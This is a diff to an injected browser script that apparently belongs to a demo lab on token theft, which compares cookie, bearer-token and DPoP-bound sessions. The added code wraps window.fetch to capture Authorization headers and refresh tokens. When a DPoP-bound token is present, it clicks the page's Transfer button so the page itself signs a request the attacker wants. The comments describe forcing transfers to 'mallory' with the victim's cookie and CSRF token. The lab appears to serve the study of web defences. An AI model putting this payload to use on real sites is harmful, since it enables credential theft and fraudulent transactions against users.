@@ -9,6 +9,8 @@
 // - it presses the page's own Refresh buttons (once per logged-in column, and in columns that log
 //   in later), so that the page sends its refresh token and its CSRF tokens now instead of
 //   whenever the victim clicks;
+// - a token bound to the page's key (DPOP=on) does not work elsewhere, so it presses the page's
+//   Transfer button instead: the page signs, and the script gets what it wants while the page is open;
 // - with the CSRF token of a stack whose credential is a cookie (the session stacks, and the token
 //   stack with TOKEN_TRANSPORT=cookie) it makes a transfer to mallory from inside the page: the
 //   browser attaches the victim's cookie, and the CSRF defences cannot tell it from the page.
@@ -55,10 +57,20 @@
     }).catch(() => {});
   }
 
+  // A DPoP-bound token is worth nothing outside this page: use it through the page, which signs.
+  let usedThePage = false;
+  const useThePage = () => {
+    if (usedThePage) return;
+    usedThePage = true;
+    document.querySelector('.stack[data-stack="tokens"] .btn-transfer')?.click();
+    send('pressed-transfer', '8082', 'the page signed the request with its own key');
+  };
+
   window.fetch = async (url, init = {}) => {
     const port = portOf(url);
     const headers = init.headers || {};
     if (headers.Authorization) send('authorization_header', port, headers.Authorization);
+    if (/^DPoP /.test(headers.Authorization || '')) setTimeout(useThePage);
     if (typeof init.body === 'string' && init.body.includes('refresh_token')) {
       send('refresh_token_sent', port, JSON.parse(init.body).refresh_token);
     }
